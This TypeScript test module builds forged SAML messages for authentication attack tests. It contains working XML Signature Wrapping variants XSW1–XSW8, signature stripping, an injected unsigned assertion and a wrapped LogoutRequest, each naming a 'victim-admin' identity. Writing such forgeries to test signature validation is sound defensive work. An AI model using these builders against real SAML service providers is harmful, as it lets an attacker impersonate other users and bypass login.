// Forgery builders for SAML attack tests: XML Signature Wrapping (SAML Raider XSW1-XSW8), stripped signatures, wrapped LogoutRequests.
import { DOMParser, XMLSerializer } from '@xmldom/xmldom';
import type { Document, Element } from '@xmldom/xmldom';

export const P = 'urn:oasis:names:tc:SAML:2.0:protocol';
export const A = 'urn:oasis:names:tc:SAML:2.0:assertion';
export const DS = 'http://www.w3.org/2000/09/xmldsig#';

/** The NameID every wrapping variant smuggles in. */
export const VICTIM_NAMEID = 'victim-admin';

export const parse = (xml: string): Document => new DOMParser().parseFromString(xml, 'text/xml');
export const serialize = (doc: Document | Element): string => new XMLSerializer().serializeToString(doc as never);
export const byName = (root: Document | Element, ns: string, local: string): Element[] => Array.from(root.getElementsByTagNameNS(ns, local)) as Element[];

/** Replaces the NameID text (the attacker's payload in every wrapping variant). */
export function evilize(assertion: Element, id = '_evil'): Element {
  assertion.setAttribute('ID', id);
  const nameId = byName(assertion, A, 'NameID')[0]!;
  while (nameId.firstChild) nameId.removeChild(nameId.firstChild);
  nameId.appendChild(nameId.ownerDocument!.createTextNode(VICTIM_NAMEID));
  return assertion;
}

const directSignature = (el: Element): Element => byName(el, DS, 'Signature').find((s) => s.parentNode === el)!;

/** XSW1/XSW2: an evil Response (victim's assertion) carrying the signed original, unsigned copy placed by `place`. */
function wrapSignedResponse(doc: Document, place: (evil: Element, signature: Element, copy: Element) => void): void {
  const original = doc.documentElement!;
  const evil = original.cloneNode(true) as Element;
  evil.setAttribute('ID', '_evil-response');
  evilize(byName(evil, A, 'Assertion')[0]!, '_evil-assertion');
  const copy = original.cloneNode(true) as Element;
  copy.removeChild(directSignature(copy));
  place(evil, directSignature(evil), copy);
  doc.replaceChild(evil, original);
}

/** XML Signature Wrapping variants as catalogued by SAML Raider (XSW1-2: Response signature, XSW3-8: Assertion signature). */
export const XSW: Record<'XSW1' | 'XSW2' | 'XSW3' | 'XSW4' | 'XSW5' | 'XSW6' | 'XSW7' | 'XSW8', (doc: Document) => void> = {
  XSW1: (doc) => wrapSignedResponse(doc, (_evil, signature, copy) => signature.appendChild(copy)),
  XSW2: (doc) => wrapSignedResponse(doc, (evil, signature, copy) => evil.insertBefore(copy, signature)),
  XSW3(doc) {
    const response = doc.documentElement!;
    const original = byName(response, A, 'Assertion')[0]!;
    const evil = evilize(original.cloneNode(true) as Element);
    evil.removeChild(byName(evil, DS, 'Signature')[0]!);
    response.insertBefore(evil, original);
  },
  XSW4(doc) {
    const response = doc.documentElement!;
    const original = byName(response, A, 'Assertion')[0]!;
    const evil = evilize(original.cloneNode(true) as Element);
    evil.removeChild(byName(evil, DS, 'Signature')[0]!);
    response.replaceChild(evil, original);
    evil.appendChild(original);
  },
  XSW5(doc) {
    const response = doc.documentElement!;
    const original = byName(response, A, 'Assertion')[0]!;
    const copy = original.cloneNode(true) as Element;
    copy.removeChild(byName(copy, DS, 'Signature')[0]!);
    const id = original.getAttribute('ID')!;
    evilize(original, id);
    copy.setAttribute('ID', id);
    response.appendChild(copy);
  },
  XSW6(doc) {
    const response = doc.documentElement!;
    const original = byName(response, A, 'Assertion')[0]!;
    const evil = evilize(original.cloneNode(true) as Element);
    const signature = byName(evil, DS, 'Signature')[0]!;
    const copy = original.cloneNode(true) as Element;
    copy.removeChild(byName(copy, DS, 'Signature')[0]!);
    signature.appendChild(copy);
    response.replaceChild(evil, original);
  },
  XSW7(doc) {
    const response = doc.documentElement!;
    const original = byName(response, A, 'Assertion')[0]!;
    const extensions = doc.createElementNS(P, 'samlp:Extensions');
    const evil = evilize(original.cloneNode(true) as Element);
    evil.removeChild(byName(evil, DS, 'Signature')[0]!);
    response.replaceChild(evil, original);
    extensions.appendChild(original);
    response.insertBefore(extensions, byName(response, P, 'Status')[0]!);
  },
  XSW8(doc) {
    const response = doc.documentElement!;
    const original = byName(response, A, 'Assertion')[0]!;
    const evil = evilize(original.cloneNode(true) as Element, original.getAttribute('ID')!);
    const signature = byName(evil, DS, 'Signature')[0]!;
    const object = doc.createElementNS(DS, 'ds:Object');
    const copy = original.cloneNode(true) as Element;
    copy.removeChild(byName(copy, DS, 'Signature')[0]!);
    object.appendChild(copy);
    signature.appendChild(object);
    response.replaceChild(evil, original);
  },
};

/** Applies one XSW variant to a signed Response. */
export function wrapSignature(xml: string, variant: keyof typeof XSW): string {
  const doc = parse(xml);
  XSW[variant](doc);
  return serialize(doc);
}

/** Removes the first XML signature in the message. */
export function stripSignature(xml: string): string {
  const doc = parse(xml);
  const signature = byName(doc, DS, 'Signature')[0]!;
  signature.parentNode!.removeChild(signature);
  return serialize(doc);
}

/** Adds an unsigned copy of the assertion, naming the victim, after the signed one. */
export function addSecondAssertion(xml: string): string {
  const doc = parse(xml);
  const evil = evilize(byName(doc, A, 'Assertion')[0]!.cloneNode(true) as Element, '_second');
  evil.removeChild(byName(evil, DS, 'Signature')[0]!);
  doc.documentElement!.appendChild(evil);
  return serialize(doc);
}

/** samlify#634: an unsigned LogoutRequest naming a victim that carries a captured signed Assertion in its Extensions. */
export function wrapLogoutRequest(unsignedLogoutRequest: string, capturedResponse: string): string {
  const assertion = byName(parse(capturedResponse), A, 'Assertion')[0]!;
  const doc = parse(unsignedLogoutRequest);
  const extensions = doc.createElementNS(P, 'samlp:Extensions');
  extensions.appendChild(doc.importNode(assertion as never, true) as never);
  doc.documentElement!.insertBefore(extensions, byName(doc, A, 'NameID')[0]!);
  return serialize(doc);
}
